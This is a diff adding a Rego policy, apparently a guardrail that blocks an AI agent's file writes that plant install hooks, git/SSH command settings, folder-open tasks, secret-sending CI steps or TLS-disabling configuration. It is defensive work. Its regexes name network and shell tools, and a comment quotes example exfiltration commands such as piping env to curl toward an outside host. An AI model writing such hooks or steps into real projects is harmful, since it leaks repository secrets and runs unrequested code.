@@ -1,0 +1,206 @@
+package ahp.tool.before.builtin
+
+import data.ahp.lib.config
+import data.ahp.lib.tools
+
+# Files that name commands a tool runs later, written with a file tool
+# (Write, Edit, replace, create, apply_patch, write_to_file…): the same
+# acts that npm pkg set, git config and ssh -o are through the shell
+# (indirect.rego), judged by what the written text sets. Only the text a
+# call writes is read (tools.content): an edit that leaves an existing
+# hook alone does not set it.
+
+# package.json lifecycle scripts whose command fetches code or runs
+# inline code: npm runs them on the next install, pack or publish.
+_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": npm ", m[1], " script"]) if {
+	input.ahp.writes
+	some p in tools.written
+	p.base == "package.json"
+	not config.path_excepted(p)
+	some text in tools.content
+	some m in regex.find_all_string_submatch_n(`"(preinstall|install|postinstall|prepare|preprepare|postprepare|prepublish|prepublishOnly|prepack|postpack|preuninstall|uninstall|postuninstall|preversion|version|postversion|dependencies)"\s*:\s*"((?:[^"\\]|\\.)*)"`, text, -1)
+	_fetches_or_inlines(m[2])
+}
+
+# A command that downloads, opens a connection, pipes into a shell or an
+# interpreter, or runs inline code.
+_fetches_or_inlines(cmd) if regex.match(`(?i)(\b(curl|wget|nc|ncat|socat|telnet|base64)\b|https?://|/dev/tcp/|\|\s*(sudo\s+)?(sh|bash|zsh|dash|python[0-9.]*|node|perl|ruby)\b|\b(node|python[0-9.]*|perl|ruby|php)\s+-[ec]\b|\beval\b)`, cmd)
+
+# Git configuration files: an alias starting with ! and the settings whose
+# value git runs as a program.
+_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
+	input.ahp.writes
+	some p in tools.written
+	_git_config_file(p)
+	not config.path_excepted(p)
+	some text in tools.content
+	some line in split(text, "\n")
+	_git_config_runs(trim_left(trim_space(line), "+"))
+}
+
+_git_config_file(p) if p.base == ".gitconfig"
+
+_git_config_file(p) if p.home_rel == ".config/git/config"
+
+_git_config_file(p) if endswith(p.path, "/.git/config")
+
+# name = !command: only an alias's value starts with !.
+_git_config_runs(line) if regex.match(`^[A-Za-z][A-Za-z0-9-]*\s*=\s*"?!`, line)
+
+_git_config_runs(line) if {
+	kv := regex.find_all_string_submatch_n(`^(?i)(fsmonitor|sshcommand|textconv|smudge|clean|process|driver|program|helper)\s*=\s*(.*)$`, trim_space(line), 1)[0]
+	v := trim(trim_space(kv[2]), `"`)
+	v != ""
+	not _git_config_benign(lower(kv[1]), v)
+}
+
+_git_config_benign("fsmonitor", v) if lower(v) in {"true", "false"}
+
+_git_config_benign("helper", v) if v in {"store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred"}
+
+_git_config_benign("helper", v) if startswith(v, "cache --timeout")
+
+# SSH client configuration: a ProxyCommand or LocalCommand that starts a
+# shell, an interpreter or a download runs it on every connection.
+_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
+	input.ahp.writes
+	some p in tools.written
+	_ssh_client_config(p)
+	not config.path_excepted(p)
+	some text in tools.content
+	some line in split(text, "\n")
+	regex.match(`(?i)^\s*\+?\s*(proxycommand|localcommand)[\s=]`, line)
+	regex.match(`(^|[\s;|&/(=])(sh|bash|zsh|dash|python[0-9.]*|perl|ruby|node|nc|ncat|socat|curl|wget|base64)(\s|$|['";|&)])`, line)
+}
+
+_ssh_client_config(p) if regex.match(`^\.ssh/config(\.d/.*)?$`, p.home_rel)
+
+_ssh_client_config(p) if regex.match(`^/etc/ssh/ssh_config(\.d/.*)?$`, p.path)
+
+# An editor task set to run when the folder opens runs with nobody asking.
+_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": a task that runs on folder open"]) if {
+	input.ahp.writes
+	some p in tools.written
+	_editor_tasks_file(p)
+	not config.path_excepted(p)
+	some text in tools.content
+	regex.match(`"runOn"\s*:\s*"folderOpen"`, text)
+}
+
+_editor_tasks_file(p) if regex.match(`(^|/)\.vscode/tasks\.json$`, p.path)
+
+_editor_tasks_file(p) if endswith(p.base, ".code-workspace")
+
+# METADATA
+# title: CI workflow that sends secrets away
+# description: |
+#   Denies writing a CI configuration (.github/workflows, .gitlab-ci.yml,
+#   CircleCI, Azure Pipelines, Bitbucket, Buildkite, Drone, Jenkinsfile…)
+#   in which a step sends the pipeline's secrets or environment to a host
+#   that is not the secret's own service: curl -d "${{ secrets.X }}"
+#   https://collector…, env | curl -d @- https://IP. The workflow runs
+#   with the repository's secrets on the next push, outside this session.
+#   Steps that use a secret with its own API (a token sent to
+#   api.github.com, a Slack webhook) are allowed.
+# custom:
+#   severity: critical
+#   code: dev.ahp-opa.exfil.ci-secrets
+violation contains {
+	"reason": concat(" ", [
+		"Blocked writing a CI workflow step that sends the pipeline's secrets or environment to an outside host; it would run with the repository's secrets on the next push.",
+		"Pass each secret only to the tool or API it belongs to, or ask the user to review the workflow.",
+	]),
+	"code": "dev.ahp-opa.exfil.ci-secrets",
+	"trigger": trigger,
+} if {
+	some trigger in _ci_exfil
+}
+
+_ci_exfil contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", host]) if {
+	input.ahp.writes
+	some p in tools.written
+	_ci_file(p)
+	not config.path_excepted(p)
+	some text in tools.content
+	some line in split(text, "\n")
+	regex.match(`(?i)(^|[^\w-])(curl|wget|nc|ncat|socat|invoke-webrequest|invoke-restmethod|iwr|irm|http|xh)(\s|$)`, line)
+	_ci_secret_source(line)
+	some host in _ci_outside_hosts(line)
+}
+
+_ci_file(p) if regex.match(`(^|/)(\.github/workflows/[^/]+|\.github/actions/.+/action|\.gitlab-ci|\.circleci/config|azure-pipelines|bitbucket-pipelines|\.buildkite/[^/]+|\.drone|\.travis|\.woodpecker/[^/]+|\.woodpecker)\.ya?ml$`, p.path)
+
+_ci_file(p) if p.base == "Jenkinsfile"
+
+# The step names the pipeline's secrets or dumps its environment.
+_ci_secret_source(line) if regex.match(`\$\{\{\s*(toJSON\(\s*)?secrets\b`, line)
+
+_ci_secret_source(line) if regex.match(`(^|[\s|;&('"])(env|printenv|set|export -p)\s*(\||>|$)`, line)
+
+_ci_secret_source(line) if regex.match(`\$\{?[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*\b`, line)
+
+# The hosts a step's line names that are neither the secrets' own
+# services nor local: a URL's host, or an IP address given bare.
+_ci_outside_hosts(line) := {h |
+	some m in regex.find_all_string_submatch_n(`(?i)\bhttps?://([^/\s"'?:@]+)`, line, -1)
+	h := lower(m[1])
+	not _credential_home(h)
+	not config.local_host(h)
+	not config.host_excepted(h)
+} | {h |
+	some m in regex.find_all_string_submatch_n(`(^|[\s@/])((\d{1,3}\.){3}\d{1,3})(\s|$|:|/)`, line, -1)
+	h := m[2]
+	not config.local_host(h)
+}
+
+# METADATA
+# title: Configuration that turns off TLS certificate checks
+# description: |
+#   Denies writing a package manager's, git's, a container engine's or a
+#   download tool's configuration with a file tool so that it stops
+#   checking TLS certificates or trusts a plain-HTTP source:
+#   strict-ssl=false in .npmrc, sslVerify = false in a git config,
+#   trusted-host in pip.conf, insecure-registries in Docker's daemon.json,
+#   insecure in .curlrc. Every later install or fetch could then be
+#   tampered with. Source code and tests that skip verification for a
+#   local test server are not configuration and are allowed.
+# custom:
+#   severity: high
+#   code: dev.ahp-opa.config.tls-verification-off
+violation contains {
+	"reason": concat(" ", [
+		"Blocked configuration that turns off TLS certificate checks or trusts a plain-HTTP source; every later install or download could be tampered with.",
+		"Fix the certificate instead (a CA bundle: cafile, http.sslCAInfo, REQUESTS_CA_BUNDLE), or ask the user to change this setting.",
+	]),
+	"code": "dev.ahp-opa.config.tls-verification-off",
+	"trigger": trigger,
+} if {
+	some trigger in _tls_off
+}
+
+_tls_off contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
+	input.ahp.writes
+	some p in tools.written
+	_tool_config_file(p)
+	not config.path_excepted(p)
+	some text in tools.content
+	some line in split(text, "\n")
+	regex.match(`(?i)^[\s+"]*(strict-ssl\s*=\s*false|enableStrictSsl\s*:\s*false|sslverify\s*=\s*false|ssl_verify\s*[:=]\s*false|trusted-host\s*=|"insecure-registries"\s*:\s*\[\s*"|insecure\s*$|check[_-]certificate\s*=\s*off|NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*"?0|GIT_SSL_NO_VERIFY\s*=)`, line)
+}
+
+# Configuration files of package managers, git, container engines and
+# download tools, in the workspace or the home directory.
+_tool_config_file(p) if p.base in {
+	".npmrc", ".yarnrc", ".yarnrc.yml", "pip.conf", "pip.ini", ".condarc", ".gitconfig",
+	"daemon.json", ".curlrc", ".wgetrc", "wgetrc", ".bunfig.toml", "bunfig.toml", ".gemrc",
+}
+
+_tool_config_file(p) if endswith(p.path, "/.git/config")
+
+_tool_config_file(p) if p.home_rel == ".config/git/config"
+
+# A .env file of the workspace sets the environment of every run.
+_tool_config_file(p) if {
+	regex.match(`^\.env(\.[\w-]+)?$`, p.base)
+	not regex.match(`(?i)[.-](example|sample|template|dist|defaults|schema)$`, p.base)
+}
